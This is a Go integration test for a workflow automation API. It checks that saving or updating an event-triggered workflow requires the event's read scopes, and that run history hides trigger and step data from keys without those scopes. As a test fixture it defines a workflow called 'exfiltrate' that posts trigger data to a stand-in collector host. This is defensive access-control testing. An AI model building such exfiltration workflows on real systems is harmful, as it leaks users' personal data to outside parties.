package automation_test

import (
	"fmt"
	"net/http"
	"testing"

	"github.com/rosterhq/roster/internal/access"
	"github.com/rosterhq/roster/internal/app/apptest"
)

// A key cannot use a workflow to read what it may not: saving an
// event-triggered workflow needs the event's read scopes, and run history
// hides trigger and step data from keys without the data's read scope.
func TestWorkflowsDoNotWidenAKeysReach(t *testing.T) {
	apptest.EachDialect(t, func(t *testing.T, s *apptest.Server) {
		tenant := s.Tenant(t)
		exfiltrate := map[string]any{"name": "exfiltrate", "definition": map[string]any{
			"trigger": map[string]any{"type": "event", "event": "user.created"},
			"steps": []any{map[string]any{"id": "send", "op": "http.request",
				"input": map[string]any{"method": "POST", "url": "https://collector.example.com/", "body": "{{ trigger }}"}}},
		}}
		for _, key := range []string{
			tenant.NewKey(t, access.WorkflowsWrite),
			tenant.NewKey(t, access.WorkflowsWrite, access.EventsRead),
		} {
			p := s.Do(t, apptest.Request{Method: http.MethodPost, Path: "/api/v1/workflows", Key: key, Body: exfiltrate}).Problem(t, http.StatusForbidden)
			if len(p.Errors["definition.trigger.event"]) == 0 {
				t.Fatalf("saved a user.created workflow without users.readonly: %+v", p)
			}
		}
		// With the read scope the same workflow is fine.
		reader := tenant.NewKey(t, access.WorkflowsWrite, access.UsersRead)
		s.Do(t, apptest.Request{Method: http.MethodPost, Path: "/api/v1/workflows", Key: reader, Body: exfiltrate}).Expect(t, http.StatusCreated)
		// Updating a workflow onto an unreadable event is refused the same way.
		w := createWorkflow(t, tenant, map[string]any{"trigger": map[string]any{"type": "manual"},
			"steps": []any{map[string]any{"id": "a", "op": "workflows.list"}}})
		weak := tenant.NewKey(t, access.WorkflowsWrite)
		s.Do(t, apptest.Request{Method: http.MethodPut, Path: fmt.Sprintf("/api/v1/workflows/%d", w.ID), Key: weak,
			Body: map[string]any{"definition": exfiltrate["definition"]}}).Problem(t, http.StatusForbidden)

		// Run history: an event-triggered run whose step reads users.
		listener := createWorkflow(t, tenant, map[string]any{"trigger": map[string]any{"type": "event", "event": "user.created"},
			"steps": []any{map[string]any{"id": "find", "op": "users.get", "input": map[string]any{"id": "{{ trigger.data.id }}"}}}})
		publish(t, tenant, listener.ID)
		tenant.Call(t, http.MethodPost, "/api/v1/users", map[string]any{"name": "Secret Person", "email": "secret@example.com"}).Expect(t, http.StatusCreated)
		var runs struct {
			Runs []run `json:"runs"`
		}
		waitFor(t, "the run", func() bool {
			tenant.Call(t, http.MethodGet, fmt.Sprintf("/api/v1/workflows/%d/runs", listener.ID), nil).Expect(t, http.StatusOK).JSON(t, &runs)
			return len(runs.Runs) == 1 && runs.Runs[0].Status != "running"
		})
		full := waitRun(t, tenant, listener.ID, runs.Runs[0].ID)
		if full.Status != "succeeded" || full.Steps[0].Output == nil {
			t.Fatalf("run: %+v", full)
		}
		path := fmt.Sprintf("/api/v1/workflows/%d/runs/%d", listener.ID, full.ID)
		cases := []struct {
			name   string
			scopes []access.Scope
			sees   bool
		}{
			{"workflows.readonly alone", []access.Scope{access.WorkflowsRead}, false},
			{"with users.readonly", []access.Scope{access.WorkflowsRead, access.UsersRead}, true},
			{"with users.write", []access.Scope{access.WorkflowsRead, access.UsersWrite}, true},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				resp := s.Do(t, apptest.Request{Method: http.MethodGet, Path: path, Key: tenant.NewKey(t, c.scopes...)}).Expect(t, http.StatusOK)
				var body struct {
					Trigger  map[string]any `json:"trigger"`
					Redacted string         `json:"redacted"`
					Steps    []struct {
						Input    any    `json:"input"`
						Output   any    `json:"output"`
						Redacted string `json:"redacted"`
					} `json:"steps"`
				}
				resp.JSON(t, &body)
				_, hasData := body.Trigger["data"]
				step := body.Steps[0]
				if c.sees != hasData || c.sees != (step.Output != nil) || c.sees != (step.Input != nil) {
					t.Fatalf("sees=%v but got trigger %v, step %+v", c.sees, body.Trigger, step)
				}
				if !c.sees && (body.Redacted == "" || step.Redacted == "") {
					t.Fatalf("hidden data without a note: %s", resp.Body)
				}
			})
		}
	})
}
